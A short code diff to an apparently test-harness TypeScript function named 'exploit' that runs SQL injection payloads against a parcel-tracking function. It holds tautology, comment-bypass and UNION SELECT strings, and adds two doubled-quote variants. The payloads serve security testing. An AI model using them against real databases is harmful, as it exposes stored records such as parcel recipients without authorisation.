@@ -52,6 +52,8 @@ export async function exploit({ trackParcels }: Code, vary: Vary, payloads?: rea
     `${word}'/**/or/**/true/**/or/**/reference/**/LIKE/**/'`,
     `${word}' UnIoN SeLeCt id, reference, recipient FROM parcels --`,
     `${word}\\' OR 1=1 --`,
+    `${word}'' OR 1=1 --`,
+    `${word}'' OR reference LIKE '`,
     `AX-1\n' OR reference LIKE '`,
   ]
   for (const reference of payloads ?? attacks) {
